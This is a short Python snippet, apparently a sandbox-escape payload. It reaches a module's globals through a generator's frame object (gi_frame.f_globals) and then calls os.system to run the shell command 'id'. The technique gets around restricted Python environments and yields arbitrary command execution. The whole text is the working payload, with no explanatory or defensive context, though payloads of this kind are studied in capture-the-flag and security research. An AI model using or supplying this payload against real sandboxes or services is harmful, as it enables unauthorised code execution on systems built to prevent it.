g = (x for x in [1])
scope = g.gi_frame.f_globals
scope["os"].system("id")
